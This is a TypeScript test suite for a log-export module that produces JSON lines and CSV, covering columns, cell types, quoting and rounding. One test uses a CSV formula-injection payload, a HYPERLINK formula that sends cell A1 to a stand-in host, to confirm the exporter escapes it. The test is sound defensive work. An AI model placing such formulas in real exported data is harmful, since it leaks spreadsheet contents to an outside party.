import { parse } from "csv-parse/sync";
import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { z } from "zod";
import { loggedCache, loggedGolden, logRecord } from "../../../../test/fixtures/log-record.ts";
import type { LogRecord } from "../../../stores/log.ts";
import { createMemoryStore } from "../../../stores/memory/create-memory-store.ts";
import { csvLine } from "../../../text/csv-line.ts";
import { exportLog, type LogExportOptions } from "./export-log.ts";
import { logColumns } from "./log-columns.ts";

function readCsv(text: string): string[][] {
  return z.array(z.array(z.string())).parse(parse(text, { record_delimiter: "\r\n" }));
}

async function exported(records: readonly LogRecord[], options: LogExportOptions = {}) {
  const { log } = createMemoryStore();
  await log.append({ records });
  const parts: string[] = [];
  let count = 0;
  for await (const part of exportLog(log, options)) {
    parts.push(part.text);
    count += part.records;
  }
  return { text: parts.join(""), count };
}

const full = logRecord({
  ...{ id: "a", source: "golden", audience: ["admin", "staff"], cost: 0.5 },
  golden: loggedGolden({ entryId: "e", runnerUp: { entryId: "f", phrasingId: "p", similarity: 0.25 } }),
  cache: loggedCache({ entryId: "c" }),
  versions: { embedder: "m", index: "7" },
  stages: [
    { stage: "rerank", outcome: "judged", milliseconds: 1.5 },
    { stage: "rerank", outcome: "judged", milliseconds: 2 },
  ],
  calls: [
    {
      ...{ stage: "rerank", model: "m", outcome: "done", milliseconds: 1 },
      ...{ inputTokens: 10, outputTokens: null, cost: 0.5 },
    },
  ],
});

describe("the export of the log", () => {
  it("has every record without its trace, the oldest first, a page at a time", async () => {
    const records = Array.from({ length: 2500 }, (_, at) => logRecord({ id: `r${at}` }));
    const { text, count } = await exported(records);
    const read = text
      .trimEnd()
      .split("\n")
      .map((line): unknown => JSON.parse(line));
    expect(count).toBe(2500);
    expect(read).toEqual(records.map(({ trace: _, ...entry }) => entry));
  });

  it("has one flat row for each record, with the same columns whatever the record holds", async () => {
    const { text } = await exported([full, logRecord({ id: "b" })], { format: "csv" });
    const [heading, first, second] = readCsv(text);
    expect(heading).toEqual(logColumns.map(({ name }) => name));
    expect(new Set(heading).size).toBe(logColumns.length);
    const cell = (name: string) => first?.[heading?.indexOf(name) ?? -1];
    expect(cell("audience")).toBe("admin staff");
    expect(cell("cache_hit")).toBe("true");
    expect(cell("golden_runner_up")).toBe("f");
    expect(cell("rerank_milliseconds")).toBe("3.5");
    expect(cell("input_tokens")).toBe("10");
    expect(cell("output_tokens")).toBe("");
    expect(cell("cost")).toBe("0.5");
    expect(cell("index_version")).toBe("7");
    expect(second).toHaveLength(logColumns.length);
  });

  it("has cells of the type that their column names", () => {
    const types = {
      string: "string",
      timestamp: "string",
      boolean: "boolean",
      int64: "number",
      double: "number",
    };
    for (const { name, type, cell } of logColumns) {
      for (const value of [cell(full), cell(logRecord({ id: "b", question: null }))]) {
        if (value !== null) expect([name, typeof value]).toEqual([name, types[type]]);
      }
    }
  });

  it("lets a spreadsheet take no text for a formula, unless it is asked for texts as they are", async () => {
    const records = [
      logRecord({ id: "a", question: '=HYPERLINK("http://x/?"&A1,"ok")', text: "-1 is less." }),
    ];
    const safe = (await exported(records, { format: "csv" })).text;
    expect(safe).toContain('"\'=HYPERLINK(""http://x/?""&A1,""ok"")"');
    expect(safe).toContain("'-1 is less.");
    const raw = (await exported(records, { format: "csv", raw: true })).text;
    expect(raw).toContain('"=HYPERLINK(');
    expect(raw).not.toContain("'-1 is less.");
  });
});

describe("a line of CSV", () => {
  const cell = fc.string({ unit: fc.constantFrom('"', ",", "\r", "\n", "\t", "a", "é", " ", "=", "'") });

  it("is read as the texts that were written", () => {
    fc.assert(
      fc.property(fc.array(cell, { minLength: 2, maxLength: 5 }), (cells) => {
        expect(readCsv(csvLine(cells, { raw: true }))).toEqual([cells]);
      }),
    );
  });

  it("tells an empty text from none, and rounds no number", () => {
    expect(csvLine(["", null, 0.1 + 0.2, -0.5, true], { raw: false })).toBe(
      '"",,0.30000000000000004,-0.5,true\r\n',
    );
  });
});
